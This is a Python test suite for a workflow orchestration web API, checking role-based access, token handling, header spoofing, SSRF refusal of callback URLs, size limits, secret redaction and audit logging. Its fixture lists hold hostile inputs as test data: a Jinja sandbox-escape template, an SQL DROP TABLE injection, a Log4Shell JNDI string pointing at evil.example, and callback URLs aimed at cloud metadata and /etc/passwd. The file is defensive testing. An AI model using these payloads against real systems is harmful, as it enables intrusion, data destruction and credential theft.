"""Access control, limits on requests, and escaping."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any, cast

import pytest
from fleet import fan, graph, single, task
from route_roles import ALL, DECIDED
from web import Web, web

from dagmaster.http.access import find_decision
from dagmaster.model.access import Role
from dagmaster.web.access import TOKEN_PREFIX, Allow
from dagmaster.web.app import ROUTERS

ROUTES = {
    f"{method} {route.path}": find_decision(route, Allow)
    for router in ROUTERS
    for route in cast("list[Any]", router.routes)
    for method in getattr(route, "methods", None) or ("WS",)
}
REPORTS = {f"POST /api/v1/callbacks/{kind}" for kind in ("task-result", "task-progress", "checkpoint")}


def test_every_route_declares_its_roles() -> None:
    roles = {
        name: ALL if allow is None or allow.roles is None else {role.value for role in allow.roles}
        for name, allow in ROUTES.items()
    }
    assert roles == DECIDED


async def test_the_openapi_document_lists_the_roles_of_each_operation(dsn: str) -> None:
    async with web(dsn) as api:
        document = await api.get("/openapi.json")
    assert set(document["components"]["securitySchemes"]) == {"bearer", "key"}
    for path, operations in document["paths"].items():
        for method, operation in operations.items():
            allowed = DECIDED[f"{method.upper()} {path}"]
            assert operation["x-roles"] == ["everybody"] if allowed is ALL else set(operation["x-roles"]) == allowed
            assert bool(operation["security"]) is (allowed is not ALL)
            assert "requestBody" not in operation or {"400", "413"} <= set(operation["responses"])


async def call(api: Web, name: str, headers: dict[str, str] | None = None) -> tuple[int, str]:
    """Status and code of the response to an empty request."""
    method, path = name.split(" ")
    for parameter in (
        "job_id",
        "node_id",
        "workflow_id",
        "task_id",
        "key_id",
        "name",
        "check",
        "worker_id",
        "checkpoint_id",
        "ordinal",
        "platform_id",
        "asset_id",
        "table_name",
    ):
        path = path.replace(f"{{{parameter}}}", "1")
    body: dict[str, Any] | None = {} if method in ("POST", "PUT", "PATCH") else None
    answer = await api.client.request(method, path, headers=headers, json=body)
    is_json = answer.headers.get("content-type", "").startswith("application/json")
    reply = answer.json() if is_json else {}
    return answer.status_code, reply.get("detail", "") if isinstance(reply, dict) else ""


async def test_every_role_is_checked_against_every_route(dsn: str) -> None:
    async with web(dsn) as api:
        keys = {role.value: await api.key(role.value, role) for role in Role}
        wrong = []
        for name, allowed in DECIDED.items():
            if allowed is ALL or name.startswith("WS"):
                continue
            for role, headers in keys.items():
                status, detail = await call(api, name, headers)
                refused = status == 403 and detail.startswith(f"a key of role {role} may not")
                if refused is (role in allowed) or status in (401, 500):
                    wrong.append((name, role, status, detail))
        assert not wrong


async def test_a_platform_reviewer_is_refused_global_routes(dsn: str) -> None:
    async with web(dsn) as api:
        await api.key("me")
        ddh = await api.key("ddh", Role.REVIEWER, platform_id="ddh")
        for name, allow in ROUTES.items():
            assert allow is not None
            if allow.roles is not None and Role.REVIEWER in allow.roles:
                status, detail = await call(api, name, ddh)
                refused = status == 403 and detail == "this key is for the assets of platform 'ddh' only"
                assert refused is not allow.by_platform, (name, status, detail)


async def test_without_a_valid_key_nothing_is_revealed(dsn: str) -> None:
    async with web(dsn) as api:
        key = await api.key("somebody")
        changed = {"Authorization": key["Authorization"][:-1] + ("a" if key["Authorization"][-1] != "a" else "b")}
        for headers in ({}, changed, {"Authorization": "Basic YTpi"}, {"X-API-Key": "dm_x"}):
            for name, allowed in DECIDED.items():
                if allowed is not ALL:
                    assert (await call(api, name, headers))[0] == 401, (name, headers)


async def test_a_task_token_is_accepted_only_for_reports(dsn: str) -> None:
    async with web(dsn) as api:
        await api.key("somebody")
        token = {"Authorization": f"Bearer {TOKEN_PREFIX}forged"}
        for name, allowed in DECIDED.items():
            if allowed is not ALL and name not in REPORTS:
                assert (await call(api, name, token))[0] == 401, name
        for name in REPORTS:
            path = name.partition(" ")[2]
            body = {"task_id": "1_a_0", "status": "completed", "phase_name": "x", "progress_current": 1}
            fields = {"task-result": ("task_id", "status"), "task-progress": ("task_id", "progress_current")}
            names = fields.get(path.rpartition("/")[2], ("task_id", "phase_name"))
            answer = await api.client.post(path, json={key: body[key] for key in names}, headers=token)
            assert answer.status_code == 403, answer.text


NEAR = {"host": "127.0.0.1"}


NOT_THIS_MACHINE = [
    {"host": "evil.example"},
    {"host": "evil.example:8080"},
    {"host": "127.0.0.1.evil.example"},
    {**NEAR, "origin": "https://evil.example"},
    {**NEAR, "origin": "null"},
    {**NEAR, "x-forwarded-for": "203.0.113.7"},
    {**NEAR, "forwarded": "for=203.0.113.7"},
]


async def test_without_keys_requests_by_foreign_pages_and_proxies_are_refused(dsn: str) -> None:
    async with web(dsn) as api:
        for headers in NOT_THIS_MACHINE:
            await api.get("/api/v1/jobs", headers=NEAR)
            await api.get("/api/v1/jobs", status=401, headers=headers)


async def test_a_shared_server_without_keys_serves_nobody(dsn: str) -> None:
    async with web(dsn, is_local=False) as api:
        await api.get("/api/v1/jobs", status=401)
        await api.get("/api/v1/jobs", headers=await api.key("me"))


async def test_a_partner_sees_only_its_own_jobs(dsn: str) -> None:
    async with web(dsn, single()) as api:
        first, second = await api.key("first", Role.PARTNER), await api.key("second", Role.PARTNER)
        body = {"workflow_id": "single", "submitted_by": "second"}
        job = await api.post("/api/v1/jobs", body, 201, headers=first)
        path = f"/api/v1/jobs/{job['job_id']}"
        assert (await api.get(path, headers=first))["submitted_by"] == "first"
        await api.get(path, status=404, headers=second)
        await api.post(f"{path}/cancel", status=404, headers=second)
        assert (await api.get("/api/v1/jobs?submitted_by=first", headers=second))["items"] == []
        assert len((await api.get("/api/v1/jobs", headers=first))["items"]) == 1


# Input stays data


INJECTED = [
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ env.SECRET }}",
    "{{ inputs.__class__ }}",
    "'; DROP TABLE dagapp.dag_jobs; --",
    "${jndi:ldap://evil.example/x}",
]


async def test_templates_in_inputs_are_never_evaluated(dsn: str) -> None:
    echo = task("echo", "END", params={"text": "{{ inputs.text }}"})
    async with web(dsn, graph({"work": echo}, "echoes", start="work", inputs={"text": "string"}), runs=True) as api:
        for text in INJECTED:
            body = {"workflow_id": "echoes", "input_params": {"text": text}}
            job = await api.post("/api/v1/jobs", body, 201)
            [row] = await api.fleet.completed(int(job["job_id"]))
            assert row["result_data"]["work"]["echoed_params"]["text"] == text


async def test_templates_in_fan_out_items_are_never_evaluated(dsn: str) -> None:
    async with web(dsn, fan(params={"text": "{{ item }}"}), runs=True) as api:
        body = {"workflow_id": "fan", "input_params": {"items": INJECTED}}
        job = await api.post("/api/v1/jobs", body, 201)
        [row] = await api.fleet.completed(int(job["job_id"]))
        results = row["result_data"]["gather"]["results"]
        assert [result["echoed_params"]["text"] for result in results] == INJECTED


REFUSED_URLS = [
    "http://example.com/x",
    "https://127.0.0.1/x",
    "https://localhost/x",
    "https://2130706433/",
    "https://0x7f.1/",
    "https://[::1]/",
    "https://[::ffff:10.0.0.1]/",
    "https://169.254.169.254/latest/meta-data",
    "https://10.1.2.3/",
    "https://192.168.1.1/",
    "https://user:secret@example.com/",
    "file:///etc/passwd",
    "gopher://example.com/",
    "https://example.com:0/",
    "not an address",
]


async def test_a_callback_to_a_private_network_is_refused_at_submission(dsn: str) -> None:
    async with web(dsn, single()) as api:
        for url in REFUSED_URLS:
            refusal = await api.post("/api/v1/jobs", {"workflow_id": "single", "callback_url": url}, 422)
            assert refusal["error"]["code"] == "invalid", url
            assert (await api.get("/api/v1/jobs"))["items"] == [], url


@pytest.mark.parametrize(("depth", "status"), [(200, 201), (900, 422), (100_000, 400)])
async def test_input_nested_too_deeply_is_refused(dsn: str, depth: int, status: int) -> None:
    workflow = single(workflow_id="open").workflow.model_copy(update={"additional_inputs": True})
    async with web(dsn) as api:
        api.services.catalog.register(workflow)
        body = f'{{"workflow_id": "open", "input_params": {{"a": {"[" * depth}{"]" * depth}}}}}'
        answer = await api.client.post("/api/v1/jobs", content=body, headers={"content-type": "application/json"})
        assert answer.status_code == status, answer.text
        assert (await api.get("/api/v1/jobs"))["items"] == [] or status == 201


# Limits


@asynccontextmanager
async def small(dsn: str) -> AsyncIterator[Web]:
    async with web(dsn, single(), max_body_bytes=1000) as api:
        yield api


async def test_a_body_declared_too_long_is_refused(dsn: str) -> None:
    async with small(dsn) as api:
        refusal = await api.post("/api/v1/jobs", {"workflow_id": "x" * 2000}, 413)
        assert refusal["error"]["code"] == "too_large"


async def test_a_streamed_body_that_is_too_long_is_refused(dsn: str) -> None:
    async def pieces() -> AsyncIterator[bytes]:
        for _ in range(50):
            yield b" " * 100

    async with small(dsn) as api:
        headers = {"content-type": "application/json"}
        answer = await api.client.post("/api/v1/jobs", content=pieces(), headers=headers)
        assert answer.status_code == 413
        assert answer.json()["error"]["code"] == "too_large"


async def test_a_workflow_with_too_many_nodes_is_refused(dsn: str) -> None:
    async with web(dsn, single(), max_nodes=2) as api:
        refusal = await api.post("/api/v1/jobs", {"workflow_id": "single"}, 422)
        assert "DAGMASTER_MAX_NODES" in refusal["error"]["message"]


# Output


async def test_secrets_are_redacted(dsn: str) -> None:
    workflow = single(workflow_id="open").workflow.model_copy(update={"additional_inputs": True})
    async with web(dsn, runs=True) as api:
        api.services.catalog.register(workflow)
        inputs = {"password": "hush-1", "url": "https://user:hush-2@example.com/?sig=hush-3", "plain": "seen"}
        job = await api.post("/api/v1/jobs", {"workflow_id": "open", "input_params": inputs}, 201)
        await api.fleet.completed(int(job["job_id"]))
        for path in ("", "/timeline", "/nodes", "/nodes/work"):
            answer = await api.client.get(f"/api/v1/jobs/{job['job_id']}{path}")
            assert answer.status_code == 200
            assert "hush" not in answer.text
        stored = await api.fleet.rows("SELECT event_data::text AS data FROM dagapp.dag_job_events")
        assert not any("hush" in (row["data"] or "") for row in stored)


async def test_an_unexpected_error_reveals_nothing(dsn: str, monkeypatch: pytest.MonkeyPatch) -> None:
    async def break_down(*_: Any, **__: Any) -> None:
        raise RuntimeError("password=hush in /etc/dagmaster.toml")

    monkeypatch.setattr("dagmaster.store.jobs.list_jobs", break_down)
    async with web(dsn) as api:
        answer = await api.client.get("/api/v1/jobs")
        assert answer.status_code == 500
        assert answer.json()["error"]["code"] == "internal_error"
        assert "hush" not in answer.text and "Traceback" not in answer.text


async def test_changes_record_their_actor(dsn: str) -> None:
    async with web(dsn, single(handler="sleep", params={"seconds": 60}), runs=True) as api:
        ada = await api.key("ada", Role.OPERATOR)
        body = {"workflow_id": "single", "submitted_by": "nightly"}
        job = await api.post("/api/v1/jobs", body, 201, headers=ada)
        path = f"/api/v1/jobs/{job['job_id']}"
        for act in ("pause", "resume", "cancel"):
            await api.post(f"{path}/{act}", headers=ada)
        events = {row["event_type"]: row["event_data"] for row in await api.fleet.events(int(job["job_id"]))}
        assert (events["job_created"]["submitted_by"], events["job_created"]["actor"]) == ("nightly", "ada")
        assert [events[f"job_{act}"]["actor"] for act in ("paused", "resumed", "cancelled")] == ["ada"] * 3
